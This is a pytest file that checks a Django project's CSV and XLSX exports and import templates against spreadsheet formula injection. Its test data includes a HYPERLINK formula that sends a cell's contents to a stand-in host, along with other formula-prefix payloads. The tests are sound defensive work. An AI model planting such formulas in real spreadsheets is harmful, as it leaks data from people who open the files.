"""Every CSV and XLSX the project writes keeps text as text (no formula injection).

A convention title ``=HYPERLINK("https://…/?leak="&A2, …)`` was a live formula in the
funding plan a funder downloads; the bilan exports wrote labels the same way.
"""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.lifecycle.imports.template_files import template_csv, template_xlsx
from cases.models import ImportTemplate
from cases.referrals.auto_import import template_csv as auto_template_csv
from cases.referrals.auto_import import template_xlsx as auto_template_xlsx
from iscg.spreadsheets import FORMULA_PREFIXES, csv_cell, is_formula_like
from reporting import exports as report_exports
from reporting import services as reporting_services
from reporting import views as reporting_views
from reporting.models import ReportKind
from reporting.periods import Period
from reporting.scope import Scope
from tests.conventions.factories import make_convention, make_line
from tests.iscg.factories import EmployerFactory, FunderFactory, PostFactory, UserFactory

ROOT = Path(__file__).resolve().parents[2]
LEAK = '=HYPERLINK("https://exemple.invalid/?leak="&A2;"Cliquez")'
POISONS = [LEAK, "+SUM(1;2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def assert_xlsx_has_text_only(content: bytes, expected: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    book = load_workbook(io.BytesIO(content))
    texts = {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s"
    }
    for value in expected:
        # XML reads a carriage return back as a line feed.
        assert value.replace("\r", "\n") in texts, value


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_csv_has_text_only(content: bytes, expected: list[str]) -> None:
    cells = csv_cells(content)
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    for value in expected:
        assert "'" + value in cells, value


@pytest.mark.no_db
@pytest.mark.parametrize("value", POISONS)
def test_the_helper_quotes_what_a_spreadsheet_would_evaluate(value):
    assert is_formula_like(value)
    assert csv_cell(value) == "'" + value
    assert csv_cell("Brigade de Test") == "Brigade de Test"
    assert csv_cell(-3) == -3  # numbers stay numbers
    assert csv_cell(None) == ""


def _poisoned_world():
    employer = EmployerFactory(name="@Association")
    department = employer.department
    state = FunderFactory(department=department, name="+Etat FIPD")
    commune = FunderFactory(department=department, name="-Commune")
    convention = make_convention(
        employer=employer, funders=[state, commune], posts=[PostFactory(employer=employer)],
        title=LEAK,
    )  # fmt: skip
    make_line(convention, state, year=2024)
    make_line(convention, commune, year=2024)
    return department, convention, state, commune


def test_the_funding_plan_a_funder_downloads(client):
    department, convention, state, commune = _poisoned_world()
    client.force_login(UserFactory(funder_user=True, funder=state, department=department))
    response = client.get(reverse("conventions:plan_export", args=[convention.pk]))
    assert response.status_code == 200
    assert_xlsx_has_text_only(response.content, [LEAK, "+Etat FIPD", "-Commune", "@Association"])


def test_the_funding_dashboard_export(client):
    department, _, _, _ = _poisoned_world()
    client.force_login(UserFactory(prefecture=True, department=department))
    response = client.get(reverse("conventions:dashboard_export"))
    assert response.status_code == 200
    assert_xlsx_has_text_only(response.content, ["+Etat FIPD", "-Commune"])


def _figures():
    table = {
        "title": "Origine des saisines",
        "label_header": "=Unité",
        "columns": ["Période", "Période précédente"],
        "rows": [{"label": value, "values": [3, 2]} for value in POISONS],
        "total": [18, 12],
    }
    return {
        "period": {"label": "1er trimestre 2026"},
        "previous_period": {"label": "4e trimestre 2025"},
        "sections": [{"number": 5, "tables": [table]}],
    }


@pytest.mark.no_db
def test_the_bilan_exports():
    expected = [*POISONS, "=Unité"]
    assert_xlsx_has_text_only(report_exports.to_xlsx(_figures()), expected)
    assert_csv_has_text_only(report_exports.to_csv(_figures()), expected)


def test_the_bilan_export_views_use_them(client, monkeypatch):
    """The views hand the figures to the exports above (what a recipient downloads)."""
    worker = UserFactory(worker=True)
    post = worker.holdings.get().post
    monkeypatch.setattr(
        reporting_views, "_displayed_figures", lambda request, report: (_figures(), False)
    )
    period = Period(datetime.date(2026, 1, 1), datetime.date(2026, 3, 31))
    report = reporting_services.report_create(
        kind=ReportKind.QUARTERLY, period=period, scope=Scope.for_post(post), acting_user=worker
    )
    client.force_login(worker)
    for fmt, check in (("csv", assert_csv_has_text_only), ("xlsx", assert_xlsx_has_text_only)):
        response = client.get(reverse("reporting:export", args=[report.pk, fmt]))
        assert response.status_code == 200, fmt
        check(response.content, POISONS)


def test_the_import_templates_hold_no_formula():
    for content in (
        template_csv(ImportTemplate.ACTIONS),
        template_csv(ImportTemplate.PEOPLE),
        auto_template_csv(),
    ):
        assert not [cell for cell in csv_cells(content) if is_formula_like(cell)]
    for content in (
        template_xlsx(ImportTemplate.ACTIONS),
        template_xlsx(ImportTemplate.PEOPLE),
        auto_template_xlsx(),
    ):
        assert_xlsx_has_text_only(content, [])


@pytest.mark.no_db
def test_every_spreadsheet_is_written_through_the_helper():
    """csv.writer and Workbook.save only in iscg/spreadsheets.py; a module that builds a
    workbook hands it to xlsx_bytes."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "tests") or relative == Path("iscg/spreadsheets.py"):
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            offenders.append(f"{relative}: csv.writer")
        if "Workbook()" in source and "xlsx_bytes" not in source:
            offenders.append(f"{relative}: Workbook sans xlsx_bytes")
    assert offenders == []
